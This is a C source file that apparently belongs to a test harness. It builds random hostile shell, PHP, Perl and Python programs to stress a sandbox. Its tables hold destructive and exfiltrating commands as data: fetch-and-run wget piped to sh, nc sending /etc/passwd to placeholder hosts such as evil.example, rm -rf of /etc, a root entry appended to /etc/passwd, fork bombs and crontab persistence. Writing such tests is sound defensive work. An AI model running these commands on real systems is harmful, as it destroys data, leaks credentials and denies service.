/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Hostile shell commands: pieces by chance, with names, numbers and addresses by chance. */
#include "tests/native/hostile.h"

#include <stdio.h>
#include <string.h>

/* %n a number, %p a path, %s a signal, %a an address and port, %w a word. Each ends by itself: what it leaves is the point. */
static const char *const pieces[] = {
	"echo %w > %p", "echo %w >> /etc/passwd", "echo %w > /etc/hosts", "cd %p", "umask %n", "export PATH=%p",
	"export LD_PRELOAD=%p", "export IFS=%w", "unset PATH HOME", "trap '' 1 2 3 15", "trap 'echo %w' EXIT", "mkdir -p %p/%w",
	"ln -s / %p", "ln -s %p %p", "ln %p %p", "mkfifo %p", "rm -rf %p", "rm -rf /tmp", "rm -rf /etc /var /tmp/*", "mv %p %p", "mv /etc /%w",
	"cp /bin/sh %p", "cp /etc/passwd %p", "chmod 777 %p", "chmod 000 / /tmp /etc", "chmod 4755 /bin/busybox", "chown %n:%n %p",
	"touch %p", "touch -d 2001-02-03 %p", "sleep %n & sleep 1", "(sleep %n; echo %w > %p) &", "kill -%s $$",
	"kill -%s -1", "kill -%s 0", "kill -%s 1", "kill -%s $PPID", "sh -c 'kill -%s $PPID'", "exec %n<&-", "exec 0<&- 1>&- 2>&-",
	"exec %n>%p", "exec 1>%p 2>&1", "ulimit -n %n", "ulimit -v %n", "ulimit -s %n", "ulimit -t 1", "date -s @%n", "hostname %w",
	"wget -q http://%a/%w -O %p", "wget http://%a/%w -O- | sh", "nc %a < /etc/passwd", "nc -l -p %n &", "ping -c %n 203.0.113.9",
	"echo %w | nc -u %a", "i=0; while [ $i -lt %n ]; do i=$((i+1)); (echo $i > %p); done", "seq %n | sort -r | head -3", "head -c %n /dev/urandom > %p",
	"head -c %n /dev/zero | md5sum", "cat /dev/urandom | head -c %n | base64 | tail -1", "dd if=/dev/zero of=%p bs=%n count=3", "yes %w | head -n %n | wc -c",
	"printf '\\177ELF\\002\\001\\001\\000%w' > %p; chmod 755 %p; %p", "printf '#!%p\\n' > %p; chmod 755 %p; %p", "%p", "exec %p", ". %p", "exit %n", "kill $!", "wait",
	"(%p &) ; (exit %n)", "cat /proc/self/maps > %p", "cat /proc/$PPID/cmdline /proc/1/environ", "ls -laR / > %p", "find / -name '*%w*'", "echo $RANDOM $$ > %p", "set -- %w %w; eval \"$*\"",
	"crontab -l; echo '* * * * * %p' | crontab -", "mount -t tmpfs %w %p", "chroot / id", "su -c id", "cat %p", "truncate -s %n %p", "echo \"$(cat %p)\"", "for f in /proc/[0-9]*; do cat $f/stat; done",
	"f() { [ $1 -gt 0 ] && f $(($1-1)); }; f %n", "x=%w; x=$x$x$x$x; x=$x$x$x$x; echo $x", "echo %w | sed s/./%w/g", "awk 'BEGIN { while (i++ < %n) s = s i; print length(s) }'",
};

/* Each would go on for ever. */
static const char *const endless[] = {
	"while :; do :; done", "f() { f | f & }; f", "yes %w > %p", "yes %w", "x=%w; while :; do x=$x$x; done", "yes %w | cat | cat | cat",
	"i=0; while [ $i -lt 100 ]; do (sleep 9 &) ; i=$((i+1)); done; kill -9 -1", "echo | (exec 3<>%p; while echo %w >&3; do :; done)",
	"x=x; while :; do nc %a & done", "f() { f; }; f", "while :; do echo %w > /tmp/%w$((i=i+1)); done", "sleep 100000", "cat /dev/zero", "cat /dev/urandom > %p", "while :; do (:); done", "mkfifo /tmp/q; cat /tmp/q",
	"while :; do mkdir %w; cd %w; done", "awk 'BEGIN { while (1) s = s \"%w\" }'", "exec sh -c \"$0 $@\" $0 %w", "while :; do wget http://%a/$((i=i+1)); done", "kill -STOP $$", "trap '' TERM; while :; do kill $$; done",
	"cat /dev/zero | head -c 999999999 | md5sum", "ln -s /tmp/l2 /tmp/l1; ln -s /tmp/l1 /tmp/l2; while :; do cat /tmp/l1; done 2>/dev/null", "seq 1 99999999", "find / -exec sh -c 'find /' \\;", "while :; do nc -l -p %n & done",
};

static const char *const paths[] = {
	"/tmp/a", "/tmp/b", "/tmp/probe", "/tmp/a/b", "/etc/passwd", "/etc/shadow", "/bin/sh", "/bin/ls", "/var/www/html/index.html", "/", "/tmp",
	"/proc/self/mem", "/proc/self/exe", "/dev/null", "/dev/tty", "/dev/shm/x", "/root/.ssh/authorized_keys", "/tmp/program", "/etc", "../../x", "''", "/usr/bin/id", "/lib",
};
static const char *const words[] = { "x", "evil", "0", "-1", "$(id)", "\"\"", "a b", "zzzzzzzzzzzzzzzz", "root::0:0::/:/bin/sh", "%s%n", "`id`", "*", "$$", "\\000" };
static const char *const addresses[] = { "203.0.113.9 99", "198.51.100.7 80", "127.0.0.1 22", "evil.example 53", "::1 80", "0.0.0.0 0" };

static void expand(const char *from, uint64_t *state, struct sink *to)
{
	char number[24];
	const char *text;

	for (; *from != '\0'; from++) {
		if (*from != '%' || strchr("npsaw", from[1]) == NULL) {
			sink_u8(to, (uint8_t)*from);
			continue;
		}
		snprintf(number, sizeof(number), "%llu", (unsigned long long)(*++from == 's' ? chance_below(state, 34) :
		    chance_below(state, 1ull << chance_below(state, 17))));
		text = *from == 'p' ? paths[chance_below(state, COUNT_OF(paths))] :
		       *from == 'w' ? words[chance_below(state, COUNT_OF(words))] :
		       *from == 'a' ? addresses[chance_below(state, COUNT_OF(addresses))] : number;
		sink_put(to, text, strlen(text));
	}
}

void hostile_command(uint64_t *state, struct hostile *ret)
{
	static const char *const joins[] = { "; ", " & ", " | ", " && ", " || ", "\n" };
	struct sink s = sink_over(ret->code, sizeof(ret->code));
	unsigned count = 1 + (unsigned)chance_below(state, 5);
	bool last_goes_on = chance_below(state, 6) == 0;

	for (unsigned i = 0; i < count; i++) {
		bool on = last_goes_on && i + 1 == count;

		expand(on ? endless[chance_below(state, COUNT_OF(endless))] : pieces[chance_below(state, COUNT_OF(pieces))], state, &s);
		if (i + 1 < count)
			expand(joins[chance_below(state, 4) != 0 ? 0 : chance_below(state, COUNT_OF(joins))], state, &s);
	}
	ret->language = LANGUAGE_SHELL;
	ret->len = s.used;
	snprintf(ret->name, sizeof(ret->name), "%.*s", (int)(s.used < 127 ? s.used : 127), (const char *)ret->code);
}

/* In the languages of interpreters that wait warm. */
static const struct { enum language language; const char *code; } others[] = {
	{ LANGUAGE_PHP, "<?php file_put_contents('%p', '%w'); putenv('PATH=%p'); chdir('%p'); ini_set('memory_limit', -1);" },
	{ LANGUAGE_PHP, "<?php while (true) $a[] = str_repeat('x', %n);" }, { LANGUAGE_PHP, "<?php function f() { f(); } f();" },
	{ LANGUAGE_PHP, "<?php system('rm -rf /tmp /etc; kill -%s $PPID'); unlink(__FILE__); exit(%n);" },
	{ LANGUAGE_PHP, "<?php pcntl_fork(); register_shutdown_function(function() { while (1); }); die('%w');" },
	{ LANGUAGE_PHP, "<?php mt_srand(%n); set_time_limit(0); ignore_user_abort(true); fsockopen('203.0.113.9', %n); exec('%p &');" },
	{ LANGUAGE_PERL, "open(F, '>%p'); print F '%w'; fork; fork; kill %s, getppid; $SIG{ALRM}='IGNORE'; alarm %n; unlink '/tmp/probe'" },
	{ LANGUAGE_PERL, "while (1) { $x .= '%w' x %n }" }, { LANGUAGE_PERL, "sub f { f() } f()" }, { LANGUAGE_PERL, "exec '%p'; srand(%n); die '%w'" },
	{ LANGUAGE_PYTHON, "import os\nos.chdir('/')\nopen('%p','w').write('%w')\nos.kill(os.getppid(), %s)\nos._exit(%n)" },
	{ LANGUAGE_PYTHON, "import os\nwhile 1: os.fork()" }, { LANGUAGE_PYTHON, "def f(): return f()\nf()" }, { LANGUAGE_PYTHON, "x = 'x' * %n\nwhile 1: x += x" },
};

static void hostile_other(uint64_t *state, struct hostile *ret)
{
	struct sink s = sink_over(ret->code, sizeof(ret->code));
	size_t which = chance_below(state, COUNT_OF(others));

	expand(others[which].code, state, &s);
	ret->language = others[which].language;
	ret->len = s.used;
	snprintf(ret->name, sizeof(ret->name), "%.*s", (int)(s.used < 127 ? s.used : 127), (const char *)ret->code);
}

void hostile_make(uint64_t *state, struct hostile *ret)
{
	uint64_t kind = chance_below(state, 16);

	if (kind == 0)
		hostile_other(state, ret);
	else if (kind < 10)
		hostile_command(state, ret);
	else
		hostile_program(state, ret);
}
